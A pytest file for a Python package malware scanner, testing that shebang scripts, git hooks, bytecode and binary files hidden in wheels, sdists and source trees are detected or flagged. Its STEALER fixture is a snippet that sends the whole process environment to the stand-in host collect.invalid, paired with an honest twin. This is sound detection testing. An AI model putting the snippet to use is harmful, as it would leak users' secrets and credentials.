"""Files that run and are no ``.py``: each kind with a stealer that is found, and an honest twin that is not flagged."""

from __future__ import annotations

import importlib.util
import marshal
import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from scanner.code.analysis import RUNS, Analysis
from scanner.code.artifacts import Job, analyse_archive, analyse_job
from scanner.code.kinds import interpreter
from scanner.code.limits import Limits
from scanner.model.finding import PackageRef
from tests.support.builders import sdist, wheel, zip_of

STEALER = (
    "import os, urllib.request\n"
    'urllib.request.urlopen("https://collect.invalid/", data=repr(dict(os.environ)).encode())\n'
)
HONEST = "import sys\n\n\ndef main():\n    print(len(sys.argv))\n\n\nmain()\n"
PACKAGE = PackageRef("example", "1.0")
Files = Mapping[str, bytes | str]


def of_wheel(files: Files) -> Analysis:
    name, body = wheel("example", files={"example/__init__.py": "", **files})
    return analyse_archive(body, name, PACKAGE)


def of_sdist(files: Files, **limits: int) -> Analysis:
    name, body = sdist("example", files={"setup.py": "from setuptools import setup\nsetup()\n", **files})
    return analyse_archive(body, name, PACKAGE, Limits(**limits))


def of_tree(root: Path, files: Files) -> Analysis:
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(text.encode() if isinstance(text, str) else text)
    return analyse_job(Job(str(root), "", PACKAGE))


def places(analysis: Analysis) -> set[tuple[str, int]]:
    return {(one.location.path, one.location.line) for found in analysis.findings for one in found.evidence}


SHEBANGS = ["#!python\n", "#!/usr/bin/env python3\n", "#!/usr/bin/env -S python3.12 -u\n", "#!/opt/x/bin/pypy3 -s\n"]


@pytest.mark.parametrize("first", SHEBANGS)
def test_a_script_of_a_wheel_is_read_by_its_first_line(first: str) -> None:
    path = "example-1.0.data/scripts/example-tool"
    found = of_wheel({path: first + STEALER})
    assert found.verdict == "malicious"
    assert (path, 3) in places(found)
    assert {one.trigger for one in found.findings} == {"entry-point"}
    assert of_wheel({path: first + HONEST}).verdict == "clean"


@pytest.mark.parametrize("path", ["tool", "tools/run", "run.cgi", "x.PY", ".git/hooks/post-checkout"])
def test_a_script_of_a_tree_is_read_whatever_its_name(tmp_path: Path, path: str) -> None:
    found = of_tree(tmp_path, {path: "#!/usr/bin/python3\n" + STEALER})
    assert found.verdict == "malicious"
    assert (path, 3) in places(found)
    assert of_tree(tmp_path, {path: "#!/usr/bin/python3\n" + HONEST}).verdict == "clean"


def test_a_script_of_an_sdist_is_read() -> None:
    assert of_sdist({"bin/tool": "#!python\n" + STEALER}).verdict == "malicious"
    assert of_sdist({"bin/tool": "#!python\n" + HONEST}).verdict == "clean"


def test_a_first_line_that_tells_an_editor_the_syntax_of_cython_makes_no_script(tmp_path: Path) -> None:
    found = of_sdist({"core/fast.pyx": "#!python\n#cython: language_level=3\ncdef int value = 1\n"})
    assert found.verdict == "clean"
    assert not found.unread
    assert of_sdist({"core/fast.pyx": "#!python\n" + STEALER}).verdict == "malicious"
    started = {"core/fast.pyx": "#!/usr/bin/python3\nx ?= 1\n" + STEALER, "setup.py": "import os\n"}
    started["setup.py"] += "os.system('python3 core/fast.pyx')\n"
    assert of_sdist(started).verdict == "malicious"


@pytest.mark.parametrize(
    ("line", "program"),
    [
        (b"#!python", "python"),
        (b"#! /usr/bin/env python", "python"),
        (b"#!/usr/bin/env -S PYTHONPATH=x python3.13t -I", "python"),
        (b"#!pythonw.exe", "python"),
        (b"#!/bin/sh -e", "sh"),
        (b"#!/usr/bin/env node", "node"),
        (b"python", ""),
        (b"", ""),
        (b"#!", ""),
    ],
)
def test_the_interpreter_of_a_first_line(line: bytes, program: str) -> None:
    assert interpreter(line + b"\n") == program


def runs_unread(analysis: Analysis) -> set[str]:
    """What of it runs by itself and was not read whole."""
    return {one.path for one in analysis.gaps if one.trigger in RUNS}


def bytecode(text: str, flags: int = 1) -> bytes:
    """What an interpreter writes, never loaded here. PEP 552: 0 is checked by time, 1 not at all, 3 by digest."""
    code = compile(text, "core.py", "exec")
    return importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + bytes(8) + marshal.dumps(code)


OPTIMISED = "example/__pycache__/__init__.cpython-312.opt-2.pyc"


@pytest.mark.parametrize(
    ("files", "unread"),
    [
        ({"example/core.pyc": b""}, {"example/core.pyc"}),
        ({"example/__pycache__/__init__.cpython-312.pyc": b""}, {"example/__pycache__/__init__.cpython-312.pyc"}),
        (
            {"example/__pycache__/__init__.cpython-312.opt-2.pyc": b""},
            {"example/__pycache__/__init__.cpython-312.opt-2.pyc"},
        ),
        ({"example/__init__.pyc": b""}, set()),
        ({"example/__pycache__/core.cpython-312.pyc": b""}, set()),
        ({"example/tests/test_x.pyc": b""}, set()),
    ],
)
def test_bytecode_that_the_interpreter_would_run_is_a_gap(files: Files, unread: set[str]) -> None:
    found = of_wheel({path: bytecode(HONEST) for path in files})
    assert runs_unread(found) == unread
    assert {one.path for one in found.gaps} == set(files)


@pytest.mark.parametrize(("flags", "runs"), [(0, False), (1, True), (3, False)])
def test_bytecode_of_a_wheel_that_is_held_against_its_source_does_not_run(flags: int, runs: bool) -> None:
    # Regression: numpy ships bytecode of two modules, checked by time, and every audit with it was inconclusive.
    name = "example/__pycache__/__init__.cpython-312.pyc"
    found = of_wheel({name: bytecode(HONEST, flags)})
    assert runs_unread(found) == ({name} if runs else set())
    assert {one.path for one in found.gaps} == {name}


@pytest.mark.parametrize(
    "data", [bytecode(STEALER), b"\x7fELF" + bytes(200), zip_of({"__main__.py": STEALER.encode()})]
)
def test_binary_content_under_the_suffix_of_source_is_a_gap(data: bytes) -> None:
    assert runs_unread(of_wheel({"example/core.py": data})) == {"example/core.py"}
    assert runs_unread(of_wheel({"example/core.py": HONEST.encode() + data})) == {"example/core.py"}
    assert not of_wheel({"example/core.py": HONEST.encode("utf-16")}).gaps


def test_what_the_interpreter_kept_of_a_checkout_is_no_gap(tmp_path: Path) -> None:
    files = {"a.py": HONEST, "__pycache__/a.cpython-312.pyc": bytecode(HONEST)}
    assert runs_unread(of_tree(tmp_path, files)) == {"__pycache__/a.cpython-312.pyc"}
    (tmp_path / ".gitignore").write_text("__pycache__/\n")
    for command in (["init", "--quiet"], ["add", "a.py"]):
        subprocess.run(["git", "-C", str(tmp_path), *command], check=True)
    assert of_tree(tmp_path, files).verdict == "clean"
    subprocess.run(["git", "-C", str(tmp_path), "add", "--force", "__pycache__"], check=True)
    assert runs_unread(of_tree(tmp_path, files)) == {"__pycache__/a.cpython-312.pyc"}
